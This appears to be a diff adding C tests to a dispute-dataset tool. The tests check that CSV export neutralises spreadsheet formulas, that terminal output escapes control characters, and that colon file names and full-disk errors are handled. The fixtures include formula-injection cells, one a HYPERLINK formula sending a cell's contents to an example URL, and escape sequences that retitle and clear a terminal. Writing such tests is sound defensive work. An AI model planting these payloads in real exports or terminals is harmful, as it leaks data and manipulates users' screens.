@@ -730,6 +730,185 @@ test_chart_at_the_edges (void)
   }
 }
 
+/* Output for spreadsheets and terminals {{{ */
+
+#define HOSTILE_EVENTS \
+  "{\"id\": \"=1+1\", \"kind\": \"talks\", \"groups\": [\"g\"], \"start\": \"2024-01-01\", " \
+  "\"title\": \"=HYPERLINK(\\\"https://example.org/?x=\\\"&A1, \\\"Click\\\")\"}," \
+  "{\"id\": \"+44\", \"kind\": \"talks\", \"groups\": [\"g\"], \"start\": \"2024-01-02\", \"title\": \"-5% cut\"}," \
+  "{\"id\": \"@me\", \"kind\": \"talks\", \"groups\": [\"g\"], \"start\": \"2024-01-03\", \"title\": \"\\t=tab\"}," \
+  "{\"id\": \"cr\", \"kind\": \"talks\", \"groups\": [\"g\"], \"start\": \"2024-01-04\", \"title\": \"\\r=cr\"}," \
+  "{\"id\": \"plain\", \"kind\": \"strike\", \"groups\": [\"g\"], \"start\": \"2024-01-05\", \"title\": \"a = b, -1\"}," \
+  "{\"id\": \"esc\", \"kind\": \"talks\", \"groups\": [\"g\"], \"start\": \"2024-01-06\", " \
+  "\"title\": \"\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m\\u007fend\\nnext\"}"
+
+/* Cells a spreadsheet would run as formulas start with "'"; the rest, and
+ * every date and day count, are as they were */
+static void
+test_csv_formula_guard (void)
+{
+  g_autofree char *text = dataset_text (HOSTILE_EVENTS, NULL);
+  g_autoptr(GError) error = NULL;
+  g_autoptr(NhsDataset) ds = load_string (text, &error);
+  g_autoptr(GPtrArray) list = g_ptr_array_new ();
+  g_autoptr(GString) csv = g_string_new (NULL);
+
+  g_assert_no_error (error);
+  for (guint i = 0; i < nhs_dataset_get_n_events (ds); i++)
+    g_ptr_array_add (list, nhs_dataset_get_event (ds, i));
+  nhs_write_events_csv (csv, list);
+  g_assert_cmpstr (csv->str, ==,
+                   "id,kind,groups,start,end,strike_days,title\r\n"
+                   "'=1+1,talks,g,2024-01-01,,,\"'=HYPERLINK(\"\"https://example.org/?x=\"\"&A1, \"\"Click\"\")\"\r\n"
+                   "'+44,talks,g,2024-01-02,,,'-5% cut\r\n"
+                   "'@me,talks,g,2024-01-03,,,'\t=tab\r\n"
+                   "cr,talks,g,2024-01-04,,,\"'\r=cr\"\r\n"
+                   "plain,strike,g,2024-01-05,,1,\"a = b, -1\"\r\n"
+                   "esc,talks,g,2024-01-06,,,\"\033]0;pwned\007\033[2J\302\23331m\177end\nnext\"\r\n");
+}
+
+/* The tables for a terminal: no control character reaches it (one such
+ * title set the terminal's title and cleared its screen) */
+static void
+test_terminal_escapes (void)
+{
+  g_autofree char *text = dataset_text (HOSTILE_EVENTS, NULL);
+  g_autoptr(GError) error = NULL;
+  g_autoptr(NhsDataset) ds = load_string (text, &error);
+  g_autoptr(GPtrArray) list = g_ptr_array_new ();
+  g_autoptr(GString) table = g_string_new (NULL);
+  g_autoptr(GString) summary = g_string_new (NULL);
+  g_autoptr(GArray) totals = NULL;
+  NhsEvent *esc;
+
+  g_assert_no_error (error);
+  esc = nhs_dataset_lookup_event (ds, "esc");
+  g_ptr_array_add (list, esc);
+  nhs_write_events_table (table, list);
+  g_assert_nonnull (strstr (table->str, "\\x1b]0;pwned\\x07\\x1b[2J\\u009b31m\\x7fend\\nnext\n"));
+  for (const char *p = table->str; *p; p = g_utf8_next_char (p))
+    {
+      gunichar c = g_utf8_get_char (p);
+      g_assert_true (c == '\n' || (c >= 0x20 && c != 0x7f && (c < 0x80 || c >= 0xa0)));
+    }
+  g_assert_nonnull (strstr (table->str, "\n1 event\n"));
+
+  g_ptr_array_set_size (list, 0);
+  g_ptr_array_add (list, nhs_dataset_lookup_event (ds, "@me"));
+  g_string_truncate (table, 0);
+  nhs_write_events_table (table, list);
+  g_assert_nonnull (strstr (table->str, "  \\t=tab\n"));
+
+  /* the summary's title and group names */
+  {
+    g_autofree char *nasty = g_strdup_printf ("{\"format\": \"nhs-dispute-dataset\", \"version\": 1, "
+                                              "\"title\": \"T\\u001b[2J\", \"groups\": [{\"id\": \"g\", \"name\": \"G\\u001b]0;x\\u0007\"}], "
+                                              "\"events\": []}");
+    g_autoptr(NhsDataset) ds2 = load_string (nasty, &error);
+
+    g_assert_no_error (error);
+    totals = nhs_stats_strike_totals (ds2, NULL);
+    nhs_write_summary_table (summary, ds2, totals);
+    g_assert_true (g_str_has_prefix (summary->str, "T\\x1b[2J\nGROUP"));
+    g_assert_nonnull (strstr (summary->str, "G\\x1b]0;x\\x07\n"));
+    g_assert_null (strchr (summary->str, '\033'));
+  }
+}
+
+/* Runs the command line in dir with stdout to out_path (NULL: captured)
+ * and gives its status, stdout and stderr */
+static int
+run_cli (const char  *dir,
+         const char  *out_path,
+         char       **out,
+         char       **err,
+         ...)
+{
+  const char *bin = g_getenv ("NHS_DISPUTE_BIN");
+  g_autoptr(GSubprocessLauncher) launcher = NULL;
+  g_autoptr(GSubprocess) proc = NULL;
+  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
+  g_autoptr(GError) error = NULL;
+  const char *arg;
+  va_list args;
+
+  g_assert_nonnull (bin);
+  g_ptr_array_add (argv, (gpointer) bin);
+  va_start (args, err);
+  while ((arg = va_arg (args, const char *)) != NULL)
+    g_ptr_array_add (argv, (gpointer) arg);
+  va_end (args);
+  g_ptr_array_add (argv, NULL);
+
+  launcher = g_subprocess_launcher_new (out_path ? G_SUBPROCESS_FLAGS_STDERR_PIPE
+                                                 : G_SUBPROCESS_FLAGS_STDOUT_PIPE | G_SUBPROCESS_FLAGS_STDERR_PIPE);
+  g_subprocess_launcher_set_cwd (launcher, dir);
+  if (out_path)
+    g_subprocess_launcher_set_stdout_file_path (launcher, out_path);
+  proc = g_subprocess_launcher_spawnv (launcher, (const char * const *) argv->pdata, &error);
+  g_assert_no_error (error);
+  g_assert_true (g_subprocess_communicate_utf8 (proc, NULL, NULL, out, err, &error));
+  g_assert_no_error (error);
+  return g_subprocess_get_exit_status (proc);
+}
+
+/* A ":" in a file name is a file, for reading and writing */
+static void
+test_colon_is_a_file (void)
+{
+  g_autofree char *dir = test_make_tmpdir ();
+  g_autofree char *source = g_test_build_filename (G_TEST_DIST, "data", "fixture.json", NULL);
+  g_autofree char *copy = g_build_filename (dir, "notes:2024.json", NULL);
+  g_autofree char *contents = NULL;
+  g_autofree char *out = NULL;
+  g_autofree char *err = NULL;
+  g_autofree char *listing = NULL;
+  gsize len;
+
+  g_assert_true (g_file_get_contents (source, &contents, &len, NULL));
+  g_assert_true (g_file_set_contents (copy, contents, len, NULL));
+
+  g_assert_cmpint (run_cli (dir, NULL, &out, &err, "--check-dataset", "notes:2024.json", NULL), ==, 0);
+  g_assert_cmpstr (out, ==, "notes:2024.json: valid (11 events, 2 figures, 1 article)\n");
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+  g_assert_cmpint (run_cli (dir, NULL, &out, &err, "--export-chart", "chart:1.png", "--dataset", "notes:2024.json", NULL), ==, 0);
+  g_assert_cmpstr (err, ==, "");
+  listing = test_list_dir (dir);
+  g_assert_cmpstr (listing, ==, "chart:1.png notes:2024.json");
+
+  test_remove_tree (dir);
+}
+
+/* Output that cannot be written is a failure, said on stderr */
+static void
+test_stdout_full (void)
+{
+  g_autofree char *fixture = g_test_build_filename (G_TEST_DIST, "data", "fixture.json", NULL);
+  const char *commands[][3] = {
+    { "--version", NULL },
+    { "--list-events", NULL },
+    { "--summary", "--format=json" },
+    { "--check-dataset", fixture },
+  };
+
+  if (!g_file_test ("/dev/full", G_FILE_TEST_EXISTS))
+    {
+      g_test_skip ("no /dev/full here");
+      return;
+    }
+  for (guint i = 0; i < G_N_ELEMENTS (commands); i++)
+    {
+      g_autofree char *err = NULL;
+      int status = run_cli (NULL, "/dev/full", NULL, &err, commands[i][0], commands[i][1], NULL);
+
+      g_test_message ("%s: %s", commands[i][0], err);
+      g_assert_cmpint (status, ==, 1);
+      g_assert_cmpstr (err, ==, "nhs-dispute: could not write the output: No space left on device\n");
+    }
+}
+
+/* }}} */
 /* Quotes {{{ */
 
 /* A quote is evidence only with a word in it: a space or a full stop
@@ -1295,6 +1474,10 @@ main (int   argc,
   g_test_add_func ("/robust/dates/year-range", test_year_range);
   g_test_add_func ("/robust/dates/chart-at-the-edges", test_chart_at_the_edges);
   g_test_add_func ("/robust/quote-needs-a-word", test_quote_needs_a_word);
+  g_test_add_func ("/robust/output/csv-formula-guard", test_csv_formula_guard);
+  g_test_add_func ("/robust/output/terminal-escapes", test_terminal_escapes);
+  g_test_add_func ("/robust/output/colon-is-a-file", test_colon_is_a_file);
+  g_test_add_func ("/robust/output/stdout-full", test_stdout_full);
   g_test_add_func ("/robust/not-a-file", test_not_a_file);
   g_test_add_func ("/robust/not-a-file/subprocess", not_a_file_child);
   g_test_add_func ("/robust/timezone/names", test_timezone_names);
